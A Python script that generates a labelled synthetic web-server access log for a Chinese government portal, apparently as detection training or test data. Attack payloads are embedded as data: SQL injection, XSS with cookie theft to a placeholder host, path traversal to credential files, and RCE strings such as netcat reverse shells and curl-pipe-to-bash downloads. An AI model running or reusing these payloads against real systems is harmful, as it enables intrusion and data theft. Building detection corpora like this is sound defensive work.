#!/usr/bin/env python3
"""Labelled web-server log corpus for the agent's attack detection.

Writes, deterministically for a seed, an nginx "combined" access log in the
style of a Chinese government portal (gov CMS paths, search engines'
spiders, long Chinese query strings percent-encoded in UTF-8 and in GBK,
WeChat and domestic browsers) with attack requests mixed in, and a label
file: one "LINE<TAB>KIND<TAB>SOURCE" row per line, KIND "benign" or one of
sqli xss traversal rfi rce injection scanner webshell_access bruteforce.

  gen.py --out DIR [--seed 1] [--benign 5600] [--attacks 1200]

Nothing here contacts anything; addresses are from documentation and
private ranges.
"""
import argparse
import os
import random
import urllib.parse

SITE = "www.example.gov.cn"

TOPICS = [
    "政务公开", "政府信息公开指南", "关于印发《某市2024年优化营商环境工作要点》的通知",
    "人才引进", "公务员招录", "社保缴费基数调整", "医保报销比例", "义务教育招生入学政策",
    "住房公积金提取", "不动产登记", "营业执照办理流程", "疫情防控", "城乡居民养老保险",
    "政府工作报告", "财政预算决算公开", "重大建设项目", "环境质量公告", "安全生产检查",
    "政策解读", "新闻发布会", "领导信息", "机构职能", "便民服务", "办事指南", "互动交流",
    "12345市民热线", "乡村振兴", "高新技术企业认定", "科技项目申报", "农业补贴发放名单",
    "中共中央办公厅 国务院办公厅印发《关于进一步优化政务服务提升行政效能推动“高效办成一件事”的指导意见》",
    "市人民政府关于公布2024年度行政规范性文件清理结果的决定", "交通管制 公告", "招标公告 采购",
]
COLS = ["xxgk", "zwgk", "zcwj", "zcjd", "xwzx", "tzgg", "bmfw", "hdjl", "gzdt", "rsxx", "czxx"]
BROWSERS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; WOW64; Trident/7.0; rv:11.0) like Gecko",
    "Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/86.0.4240.198 Safari/537.36 QIHU 360SE",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/94.0.4606.71 Safari/537.36 Core/1.94.218.400 QQBrowser/12.1.5496.400",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 16_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 MicroMessenger/8.0.42(0x18002a2f) NetType/WIFI Language/zh_CN",
    "Mozilla/5.0 (Linux; Android 13; V2227A Build/TP1A.220624.014; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/116.0.0.0 Mobile Safari/537.36 XWEB/1160065 MMWEBSDK/20231002 MicroMessenger/8.0.43.2480(0x28002B51) WeChat/arm64 Weixin NetType/5G Language/zh_CN ABI/arm64",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Safari/605.1.15",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:121.0) Gecko/20100101 Firefox/121.0",
    "Mozilla/5.0 (Linux; U; Android 12; zh-CN; PEDM00 Build/SKQ1.210216.001) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/100.0.4896.58 UCBrowser/15.5.2.1262 Mobile Safari/537.36",
]
SPIDERS = [
    ("Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)", "220.181.108."),
    ("Mozilla/5.0 (compatible; Baiduspider-render/2.0; +http://www.baidu.com/search/spider.html)", "116.179.32."),
    ("Mozilla/5.0 (compatible; 360Spider) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/50.0.2661.102 Safari/537.36", "180.163.220."),
    ("Sogou web spider/4.0(+http://www.sogou.com/docs/help/webmasters.htm#07)", "123.126.113."),
    ("Mozilla/5.0 (Linux; Android 5.0) AppleWebKit/537.36 (KHTML, like Gecko) Mobile Safari/537.36 (compatible; Bytespider; spider-feedback@bytedance.com)", "110.249.201."),
    ("Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)", "40.77.167."),
    ("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "66.249.66."),
    ("Mozilla/5.0 (compatible; YisouSpider; +http://www.yisou.com)", "106.11.155."),
]
MONITOR_UA = "sitewarden-probe/0.2 (+monitoring)"


def enc_utf8(s):
    return urllib.parse.quote(s, safe="")


def enc_gbk(s):
    return urllib.parse.quote(s.encode("gb18030"), safe="")


def ts(t):
    import time
    return time.strftime("%d/%b/%Y:%H:%M:%S +0800", time.gmtime(t + 8 * 3600))


class Gen:
    def __init__(self, seed):
        self.r = random.Random(seed)
        self.t = 1732500000  # a fixed start, advancing per line
        self.lines = []

    def line(self, ip, method, target, status, ua, ref="-", label="benign", size=None):
        self.t += self.r.choice([0, 0, 1])
        size = size if size is not None else (self.r.randint(300, 90000) if status == 200 else 0)
        ref_s = ref if ref else "-"
        target = target.replace('"', "\\x22")
        ua = ua.replace('"', "\\x22")
        ref_s = ref_s.replace('"', "\\x22")
        self.lines.append((f'{ip} - - [{ts(self.t)}] "{method} {target} HTTP/1.1" {status} {size} "{ref_s}" "{ua}"', label, ip))

    # --- benign -------------------------------------------------------
    def client_ip(self):
        r = self.r
        return r.choice(["112.", "117.", "183.", "36.", "221.", "222.", "114.", "59."]) + \
            f"{r.randint(1, 254)}.{r.randint(1, 254)}.{r.randint(1, 254)}"

    def page(self):
        r = self.r
        y, m, d = 2024, r.randint(1, 12), r.randint(1, 28)
        kind = r.random()
        if kind < 0.25:
            return f"/{r.choice(COLS)}/{r.choice(COLS)}/{y}{m:02d}/t{y}{m:02d}{d:02d}_{r.randint(100000, 9999999)}.html"
        if kind < 0.4:
            return f"/art/{y}/{m}/{d}/art_{r.randint(1000, 9999)}_{r.randint(10000, 999999)}.html"
        if kind < 0.5:
            return f"/col/col{r.randint(1000, 99999)}/index.html" + (f"?uid={r.randint(1000, 99999)}&pageNum={r.randint(1, 40)}" if r.random() < 0.5 else "")
        if kind < 0.6:
            return f"/{r.choice(COLS)}/index{'' if r.random() < 0.5 else '_' + str(r.randint(1, 30))}.html"
        if kind < 0.7:
            return r.choice(["/", "/index.html", "/index.shtml", "/favicon.ico", "/robots.txt", "/sitemap.xml"])
        if kind < 0.85:
            return r.choice([
                f"/images/{r.randint(2019, 2024)}/{r.randint(1, 12):02d}/{r.randint(100000, 999999)}.jpg",
                f"/picture/0/{r.randint(2300000000, 2499999999)}.png",
                f"/css/{r.choice(['common', 'style', 'index', 'reset'])}.css?v={r.randint(1, 30)}",
                f"/js/{r.choice(['jquery-1.12.4.min', 'common', 'index', 'swiper.min', 'layer'])}.js",
                f"/js/jquery.min.js?_={r.randint(1700000000000, 1730000000000)}",
                f"/module/web/jpage/dataproxy.jsp?startrecord={r.randint(1, 200)}&endrecord={r.randint(200, 400)}&perpage=15",
                f"/attach/0/{r.randint(10000, 99999)}.pdf",
                f"/ztzl/{r.choice(['xczx', 'yhyshj', 'fzzfjs'])}/",
            ])
        # search and interactive pages with Chinese queries
        q = r.choice(TOPICS)
        if r.random() < 0.3:
            q = q + " " + r.choice(TOPICS)
        if r.random() < 0.35:
            return f"/was5/web/search?channelid={r.randint(100000, 299999)}&searchword={enc_gbk(q)}&page={r.randint(1, 9)}"
        style = r.random()
        if style < 0.33:
            return f"/search/search.jsp?keyword={enc_utf8(q)}&pos=title,content&sortfield=-docreltime&page={r.randint(1, 5)}"
        if style < 0.66:
            return f"/jrobot/search.do?webid={r.randint(1, 300)}&pg=12&p={r.randint(1, 5)}&tpl=&category=&q={enc_utf8(q)}"
        return f"/interface/search?siteCode=1{r.randint(10000000, 99999999)}&tab=all&qt={enc_utf8(q).replace('%20', '+')}&timestamp={r.randint(1700000000, 1730000000)}"

    def referer(self):
        r = self.r
        x = r.random()
        if x < 0.45:
            return "-"
        if x < 0.65:
            return f"https://www.baidu.com/link?url={''.join(r.choice('abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_-') for _ in range(60))}&wd=&eqid={r.getrandbits(64):016x}"
        if x < 0.72:
            return f"https://www.baidu.com/s?wd={enc_utf8(r.choice(TOPICS))}&rsv_spt=1"
        if x < 0.78:
            return f"https://www.so.com/s?q={enc_utf8(r.choice(TOPICS))}&src=srp"
        return f"https://{SITE}{self.page()}"

    def benign(self, n):
        r = self.r
        while n > 0:
            x = r.random()
            if x < 0.22:  # a spider crawl burst
                ua, net = r.choice(SPIDERS)
                ip = net + str(r.randint(1, 254))
                for _ in range(min(n, r.randint(3, 12))):
                    p = self.page()
                    self.line(ip, "GET", p, r.choice([200] * 8 + [304, 404]), ua)
                    n -= 1
            elif x < 0.24:  # the site's own monitoring
                self.line("10.20.0.5", "GET", r.choice(["/", "/index.html", "/robots.txt"]), 200, MONITOR_UA)
                n -= 1
            elif x < 0.26:  # a visitor logging in, or a message board post
                ip = self.client_ip()
                self.line(ip, "POST", r.choice(["/login", "/hdjl/submit.do", "/interact/letter/save"]), r.choice([200, 302]), r.choice(BROWSERS), f"https://{SITE}/hdjl/index.html")
                n -= 1
            else:  # a visitor browsing a few pages
                ip = self.client_ip()
                ua = r.choice(BROWSERS)
                ref = self.referer()
                for _ in range(min(n, r.randint(1, 8))):
                    p = self.page()
                    st = r.choice([200] * 20 + [304, 304, 404, 301])
                    self.line(ip, "GET", p, st, ua, ref)
                    ref = f"https://{SITE}{p}" if st == 200 else ref
                    n -= 1

    # --- attacks ------------------------------------------------------
    def attacker(self):
        r = self.r
        return r.choice(["45.", "103.", "185.", "194.", "91."]) + f"{r.randint(1, 254)}.{r.randint(1, 254)}.{r.randint(1, 254)}"

    def param_page(self):
        r = self.r
        return r.choice(["/news/list.jsp", "/search/search.jsp", "/index.php", "/show.asp", "/article.aspx", "/col/col1234/index.html", "/module/web/jpage/dataproxy.jsp", "/xxgk/detail.do", "/plus/view.php"])

    def enc(self, payload):
        r = self.r
        x = r.random()
        if x < 0.5:
            return urllib.parse.quote(payload, safe="")
        if x < 0.75:
            return urllib.parse.quote(payload, safe="/,=()*")
        if x < 0.85:  # double encoding
            return urllib.parse.quote(urllib.parse.quote(payload, safe=""), safe="")
        return payload.replace(" ", "+").replace("#", "%23").replace("&", "%26").replace('"', "%22").replace("<", "%3C").replace(">", "%3E")

    SQLI = ["1' or '1'='1", "1 union select 1,2,3,user(),5--", "1 and 1=2 union select null,version(),database()#",
            "1' and sleep(5)#", "1;waitfor delay '0:0:5'--", "-1' union all select table_name from information_schema.tables--",
            "1' and extractvalue(1,concat(0x7e,(select database())))--", "1) or (1=1", "admin'--", "1' order by 10--",
            "1 and (select count(*) from sysobjects)>0", "1' AnD 1=1 UnIoN SeLeCt 1,group_concat(username,0x3a,password) FrOm admin--",
            "1/**/union/**/select/**/1,2,3", "1' or benchmark(10000000,md5(1))#", "';exec master..xp_cmdshell 'dir'--",
            "1 and updatexml(1,concat(0x7e,user()),1)", "x' or 1=1 limit 1 -- -", "1' rlike (select (case when (1=1) then 1 else 0x28 end))--"]
    XSS = ["<script>alert(1)</script>", "\"><img src=x onerror=alert(document.cookie)>", "<svg/onload=alert(1)>",
           "javascript:alert(document.domain)", "<iframe src=javascript:alert(1)>", "<body onload=alert('xss')>",
           "'><script src=//xss.example/a.js></script>", "<img src=1 onerror=prompt(1)>", "<a href=\"javascript:confirm(1)\">x</a>",
           "<details open ontoggle=alert(1)>", "\"onmouseover=\"alert(1)", "<script>document.location='http://198.51.100.7/c?'+document.cookie</script>"]
    TRAV = ["../../../../etc/passwd", "..%2f..%2f..%2f..%2fetc%2fpasswd", "....//....//....//etc/passwd", "../../../../windows/win.ini",
            "..\\..\\..\\boot.ini", "/etc/shadow", "../../../../../proc/self/environ", "../../WEB-INF/web.xml", "/../../../../etc/hosts"]
    RFI = ["http://198.51.100.23/shell.txt?", "http://203.0.113.9/r57.txt?", "ftp://198.51.100.77/x.txt?", "https://203.0.113.50/inc.php?",
           "http://192.0.2.44:8080/a.txt??"]
    RCE = [";cat /etc/passwd", "|id", "$(whoami)", "`uname -a`", ";wget http://198.51.100.9/x.sh -O /tmp/x.sh;sh /tmp/x.sh",
           "| nc 203.0.113.5 4444 -e /bin/sh", "127.0.0.1;ls -la", "1;system('id');", "&& ping -c 4 198.51.100.1", ";curl http://203.0.113.3/b|bash",
           "%0Acat%20/etc/passwd", "1|powershell -enc aQBlAHgA"]
    INJ = ["<?php phpinfo();?>", "php://filter/convert.base64-encode/resource=index.php", "${jndi:ldap://198.51.100.4:1389/a}",
           "java.lang.Runtime.getRuntime().exec('id')", "{{7*7}}${7*7}<%=7*7%>", "O:8:\"stdClass\":1:{s:1:\"a\";s:1:\"b\";}",
           "%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}",
           "data://text/plain;base64,PD9waHAgcGhwaW5mbygpOz8+", "expect://id"]
    SCAN_UA = ["sqlmap/1.7.2#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)",
               "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
               "Mozilla/5.0 zgrab/0.x", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/74.0.3729.169 Safari/537.36 Acunetix-Product",
               "Fuzz Faster U Fool v1.5.0", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)",
               "gobuster/3.6", "WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)"]
    PROBES = ["/.git/config", "/.env", "/.svn/entries", "/WEB-INF/web.xml", "/wp-config.php.bak", "/backup.sql", "/db.mdb", "/web.config.old",
              "/phpmyadmin/index.php", "/admin/config.inc", "/data/mysql_error_trace.php", "/.DS_Store", "/www.zip.bak", "/config.ini"]
    SHELLS = ["/uploads/shell.php", "/images/c99.php", "/upload/1.asp;.jpg", "/uploadfile/cmd.jsp", "/static/wso.php", "/attachments/xiaoma.asp",
              "/plus/behinder.jsp", "/uploads/2024/01/godzilla.php", "/tmp/b374k.php", "/files/caidao.php"]

    def attacks(self, n, bench_mix):
        r = self.r
        kinds = [("sqli", 0.2), ("xss", 0.16), ("traversal", 0.13), ("rfi", 0.07), ("rce", 0.13), ("injection", 0.08),
                 ("scanner", 0.11), ("webshell_access", 0.05), ("bruteforce", 0.07)]
        out = []
        while n > 0:
            x, acc = r.random(), 0
            for k, w in kinds:
                acc += w
                if x < acc:
                    break
            ip = self.attacker()
            burst = min(n, r.randint(1, 6) if k != "bruteforce" else r.randint(12, 20))
            for _ in range(burst):
                ua = r.choice(BROWSERS)
                st = r.choice([200, 200, 403, 404, 500, 400])
                if k == "sqli":
                    tgt = f"{self.param_page()}?id={self.enc(r.choice(self.SQLI))}"
                elif k == "xss":
                    tgt = f"{self.param_page()}?{r.choice(['q', 'keyword', 'searchword', 'name', 'callback'])}={self.enc(r.choice(self.XSS))}"
                elif k == "traversal":
                    t = r.choice(self.TRAV)
                    tgt = f"{r.choice(['/download.jsp', '/file.php', '/attach/get.do', '/index.php'])}?{r.choice(['file', 'path', 'filename', 'page'])}={self.enc(t)}" if r.random() < 0.7 else "/" + t.lstrip("/")
                    if "%" in t:
                        tgt = tgt.replace(urllib.parse.quote(t, safe=""), t)
                elif k == "rfi":
                    tgt = f"{r.choice(['/index.php', '/main.php', '/include.php'])}?{r.choice(['page', 'file', 'inc', 'template'])}={self.enc(r.choice(self.RFI))}"
                elif k == "rce":
                    tgt = f"{r.choice(['/cgi-bin/ping.cgi', '/tools/ping.php', '/admin/exec.do', '/index.php'])}?{r.choice(['ip', 'host', 'cmd', 'target'])}={self.enc(r.choice(self.RCE))}"
                    if r.random() < 0.15:
                        tgt = "/index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id"
                elif k == "injection":
                    p = r.choice(self.INJ)
                    if p.startswith("${jndi") and r.random() < 0.5:
                        ua = p
                        tgt = self.page()
                    else:
                        tgt = f"{self.param_page()}?{r.choice(['id', 'page', 'file', 'data', 'name'])}={self.enc(p)}"
                elif k == "scanner":
                    ua = r.choice(self.SCAN_UA)
                    tgt = r.choice(self.PROBES) if r.random() < 0.6 else self.page()
                    st = 404 if r.random() < 0.7 else 200
                elif k == "webshell_access":
                    tgt = r.choice(self.SHELLS) + (f"?cmd={r.choice(['whoami', 'id', 'dir'])}" if r.random() < 0.4 else "")
                    st = r.choice([200, 404, 404])
                else:  # bruteforce
                    self.line(ip, "POST", r.choice(["/login", "/admin/login.php", "/wp-login.php"]), r.choice([200, 200, 302, 401]), ua,
                              f"https://{SITE}/login", label="bruteforce", size=r.randint(400, 900))
                    n -= 1
                    continue
                self.line(ip, "GET", tgt, st, ua, "-", label=k)
                n -= 1


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--out", required=True)
    ap.add_argument("--seed", type=int, default=1)
    ap.add_argument("--benign", type=int, default=5600)
    ap.add_argument("--attacks", type=int, default=1300)
    a = ap.parse_args()
    g = Gen(a.seed)
    # interleave: blocks of benign traffic with attack bursts in between
    total_a, done_a = a.attacks, 0
    chunks = 40
    for i in range(chunks):
        g.benign(a.benign // chunks + (1 if i < a.benign % chunks else 0))
        want = total_a * (i + 1) // chunks - done_a
        g.attacks(want, False)
        done_a += want
    os.makedirs(a.out, exist_ok=True)
    with open(os.path.join(a.out, "access.log"), "w", encoding="utf-8") as f:
        for l, _, _ in g.lines:
            f.write(l + "\n")
    with open(os.path.join(a.out, "labels.tsv"), "w", encoding="utf-8") as f:
        for i, (_, k, ip) in enumerate(g.lines, 1):
            f.write(f"{i}\t{k}\t{ip}\n")


if __name__ == "__main__":
    main()
